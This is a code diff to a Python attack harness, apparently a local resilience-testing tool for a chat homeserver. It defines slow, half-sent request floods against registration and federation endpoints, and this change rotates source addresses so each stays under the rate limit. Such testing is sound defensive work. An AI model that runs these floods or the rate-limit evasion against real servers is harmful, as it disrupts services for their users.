@@ -21,11 +21,12 @@ class HalfBodies(Attack):
     SIZE = 0
     # So many connections are made at a time.
     OPENING = 64
+    is_kept = False
 
     def head(self, number):
         raise NotImplementedError
 
-    async def open(self):
+    async def open(self, number):
         raise NotImplementedError
 
     async def run(self):
@@ -41,7 +42,7 @@ class HalfBodies(Attack):
         try:
             async with opening:
                 async with asyncio.timeout(30):
-                    reader, writer = await self.open()
+                    reader, writer = await self.open(number)
                 self.tally.requests += 1
                 head = self.head(number)
                 writer.write(head + b'{"x":"')
@@ -82,7 +83,7 @@ class OfHomeservers(HalfBodies):
 
     SIZE = 8 << 20
 
-    async def open(self):
+    async def open(self, _):
         return await self.origin.line.open()
 
     def head(self, number):
@@ -92,13 +93,14 @@ class OfHomeservers(HalfBodies):
 
 @attack("half-bodies-client")
 class OfClients(HalfBodies):
-    """Registrations, on the listener for clients."""
+    """Registrations, on the listener for clients, so few from each address that their rate is not limited."""
 
     SIZE = 1_900_000
+    OF_ADDRESS = 20
 
-    async def open(self):
-        return await asyncio.open_connection(
-            "127.0.0.1", self.world.client_port, local_addr=(self.origin.address, 0))
+    async def open(self, number):
+        address = f"127.0.2.{1 + number // self.OF_ADDRESS % 250}"
+        return await asyncio.open_connection("127.0.0.1", self.world.client_port, local_addr=(address, 0))
 
     def head(self, _):
         return (f"POST {V3}/register HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
@@ -110,6 +112,7 @@ class HalfAnswers(Attack):
     """Events after unknown ones, and answers about the state there that stop after sixty megabytes."""
 
     SIZE = 60 << 20
+    is_kept = False
 
     async def prepare(self):
         room, _ = await self.public_room()
